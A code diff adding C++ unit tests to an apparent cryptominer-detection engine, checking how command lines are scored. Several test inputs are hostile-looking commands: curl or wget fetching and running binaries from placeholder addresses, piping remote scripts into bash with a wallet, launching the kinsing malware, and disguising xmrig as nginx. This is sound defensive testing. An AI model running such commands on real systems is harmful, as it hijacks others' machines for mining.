@@ -180,5 +180,106 @@ TEST(CommandSignals, EvidenceNeverHoldsUserOrPassword) {
   }
 }
 
+int scoreOfScript(const std::string& text) { return scoreOf({"sh", "-c", text}); }
+
+TEST(CommandSignals, AnAddressAndAMinersFlagNeedNoLogin) {
+  EXPECT_GE(scoreOf({"/x", "-o", "10.0.0.1:443", "--tls", "--donate-level", "0"}), kDefaultThreshold);
+  EXPECT_GE(scoreOf({"/x", "--url=10.0.0.1:443", "--randomx-no-numa"}), kDefaultThreshold);
+  EXPECT_EQ(scoreOf({"/x", "-o", "collector:4317", "--tls"}), 0);
+}
+
+TEST(CommandSignals, ADonationThatIsNoPercentageIsSomebodyElses) {
+  EXPECT_EQ(scoreOf({"/x", "--donate-level", "gold"}), 0);
+  EXPECT_EQ(weightOf({"/x", "--donate-level", "5"}, "miner-flag"), weight::kStrong);
+}
+
+TEST(CommandSignals, APoolIsToldUnderAnyFlagBesideAWallet) {
+  const std::string kaspa = "kaspa:qqllan7cen36lds6rwle9hjdj0av5p50l2mlg52x5c5erzy6mfgwx2787v2py";
+  EXPECT_GE(scoreOf({"/x", "-zpool", "ssl://zec.2miners.com:1010", "-zwal",
+                     "t1SFq9b9MfrgCDUzUDJmPwMn2ncpmSnBbVY.w"}),
+            kDefaultThreshold);
+  EXPECT_GE(scoreOf({"/x", "--algo", "kaspa", "--server", "kas.example.net", "--port", "5555", "--user", kaspa}),
+            kDefaultThreshold);
+  EXPECT_LT(scoreOf({"/faucet", "--rpcserver", "node:16110", "--from", kaspa}), kAlertScore);
+  EXPECT_LT(scoreOf({"/exporter", "-wallet", "RL2ZLm1NPEtp1NxEZeyps1DBuaxMXuPk1G", "-api",
+                     "https://rvn.2miners.com/api"}),
+            kDefaultThreshold);
+}
+
+TEST(CommandSignals, APaymentServiceNamesItsNodeAndItsAddress) {
+  for (const char* flag : {"--daemon-address", "--server", "-s", "-r", "--daemon"}) {
+    EXPECT_LT(scoreOf({"/pay", "--address", kStandardAddress, flag, "node.example:18081"}), kAlertScore) << flag;
+  }
+}
+
+TEST(CommandSignals, WhatIsFilledInLaterIsAnAddressBesideAWallet) {
+  EXPECT_GE(scoreOf({"/x", "-o", "{{workflow.parameters.pool}}", "-u", kStandardAddress}), kDefaultThreshold);
+  EXPECT_EQ(scoreOf({"/x", "-o", "{{workflow.parameters.out}}", "-u", "me"}), 0);
+}
+
+TEST(CommandSignals, OrdinaryClientsHaveAUrlALoginAndTls) {
+  EXPECT_LT(scoreOf({"/c", "--url", "db.example:443", "--user", "svc", "--password", "x", "--tls"}),
+            kAlertScore);
+  EXPECT_LT(scoreOf({"/c", "--url", "ssl://mq.example:8883", "--username", "u", "--password", "p", "--keepalive",
+                     "60", "--tls", "-k"}),
+            kAlertScore);
+}
+
+TEST(CommandSignals, ATrialOfAnAlgorithmIsNoMiner) {
+  EXPECT_EQ(scoreOf({"npm", "test", "--", "--algo", "kawpow"}), 0);
+  EXPECT_EQ(scoreOf({"pytest", "--algo", "ethash"}), 0);
+  EXPECT_EQ(weightOf({"/x", "--algo", "ethash"}, "miner-algorithm"), weight::kStrong);
+}
+
+TEST(CommandSignals, WhatWasFetchedCountsBesideItsOwnEvidence) {
+  EXPECT_GE(scoreOfScript("curl -so /tmp/a http://203.0.113.1/a; chmod +x /tmp/a; /tmp/a --donate-level 0"),
+            kDefaultThreshold);
+  EXPECT_GE(scoreOfScript("wget -qO a.sh https://files.example/a.sh; bash a.sh --rig-id x"), kDefaultThreshold);
+  for (const char* script :
+       {"curl -sLo /tmp/jq https://github.com/jqlang/jq/releases/download/jq-1.7/jq; chmod +x /tmp/jq; /tmp/jq .",
+        "curl -s http://10.0.0.5/bootstrap.sh | sh -s -- --role worker",
+        "wget -q http://artifacts.example/agent -O /tmp/.agent; /tmp/.agent --server agent.example:443 --tls"}) {
+    EXPECT_EQ(scoreOfScript(script), 0) << script;
+  }
+}
+
+TEST(CommandSignals, AWalletForAScriptOfAStrangerIsAMinersSetUp) {
+  const std::string wallet = kStandardAddress;
+  EXPECT_GE(scoreOfScript("curl -s http://203.0.113.9/s.sh | bash -s " + wallet), kDefaultThreshold);
+  EXPECT_GE(scoreOfScript("wget -qO /tmp/s.sh http://203.0.113.9/s.sh && sh /tmp/s.sh " + wallet), kDefaultThreshold);
+  // Somebody vouches for it: shown, not acted on.
+  EXPECT_LT(scoreOfScript("curl -s https://pay.example/install.sh | bash -s " + wallet), kDefaultThreshold);
+}
+
+TEST(CommandSignals, NamesOfMalwareAreProofWhereTheyAreRun) {
+  EXPECT_GE(scoreOfScript("wget -q http://203.0.113.9/kinsing -O /etc/kinsing; chmod +x /etc/kinsing; /etc/kinsing"),
+            kDefaultThreshold);
+  EXPECT_GE(scoreOf({"/var/tmp/kdevtmpfsi"}), kDefaultThreshold);
+  EXPECT_LT(scoreOf({"kinsing"}), kDefaultThreshold);
+  EXPECT_EQ(scoreOfScript("for f in /tmp/kinsing /tmp/kdevtmpfsi; do rm -f $f; pkill -9 -f $f; done"), 0);
+}
+
+TEST(CommandSignals, AMinerUnderAnotherNameIsMeantToBeOverlooked) {
+  EXPECT_EQ(weightOf({"mv", "/tmp/xmrig", "/usr/bin/nginx"}, "miner-renamed"), weight::kStrong);
+  for (const Words& line : {Words{"mv", "/tmp/xmrig", "/quarantine/xmrig.infected"}, Words{"cp", "/tmp/xmrig", "/evidence/"},
+                            Words{"mv", "a", "b"}}) {
+    EXPECT_EQ(scoreOf(line), 0);
+  }
+}
+
+TEST(CommandSignals, ReleaseFilesAreKnownWithTheirPlatform) {
+  for (const char* name : {"dero-miner-linux-amd64", "xmrig-linux-static-x64", "xmrig-6.21.0-linux-x64"}) {
+    EXPECT_TRUE(isMinerProgram(name)) << name;
+  }
+  EXPECT_FALSE(isMinerProgram("lotus-miner-linux-amd64"));
+}
+
+TEST(CommandSignals, PatternsOfACaseAreNames) {
+  EXPECT_EQ(scoreOfScript("case \"$n\" in\n  xmrig|minerd) kill $p ;;\n  /tmp/kinsing|t-rex) logger x;;\n  *) ;;\nesac"), 0);
+  EXPECT_GE(scoreOfScript("case $(uname -m) in x86_64) /tmp/a -o stratum+tcp://10.0.0.1:3333 ;; esac"),
+            kDefaultThreshold);
+  EXPECT_GE(scoreOfScript("case a in a) true;; esac; /tmp/a -o stratum+tcp://10.0.0.1:3333"), kDefaultThreshold);
+}
+
 }  // namespace
 }  // namespace firebreak::detect
